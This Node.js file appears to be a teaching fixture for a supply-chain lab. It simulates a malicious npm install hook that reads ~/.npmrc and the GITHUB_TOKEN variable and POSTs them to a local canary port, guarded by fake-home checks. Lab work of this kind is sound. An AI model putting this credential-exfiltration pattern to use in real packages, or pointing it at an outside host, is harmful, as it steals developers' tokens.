// HARMLESS TEACHING FIXTURE (hooklab): marker in $HOOKLAB_CANARY_DIR, FAKE secret, 127.0.0.1 only.
'use strict';
const fs = require('fs');
const path = require('path');
const http = require('http');

const env = process.env;
if (env.HOOKLAB_CANARY_DIR && env.HOOKLAB_CANARY_PORT && fs.existsSync(path.join(env.HOME || '', '.hooklab-fake-home'))) {
  fs.writeFileSync(path.join(env.HOOKLAB_CANARY_DIR, `npm-takeover.${process.pid}.marker`), 'takeover hook ran\n'); // hooklab:payload
  let npmrc = '';
  try { npmrc = fs.readFileSync(path.join(env.HOME, '.npmrc'), 'utf8'); } catch (err) { npmrc = err.code; }
  const req = http.request({ host: '127.0.0.1', port: Number(env.HOOKLAB_CANARY_PORT), path: '/npm-takeover', method: 'POST' });
  req.on('error', () => {});
  req.end(JSON.stringify({ token: env.GITHUB_TOKEN || '', npmrc }));
}
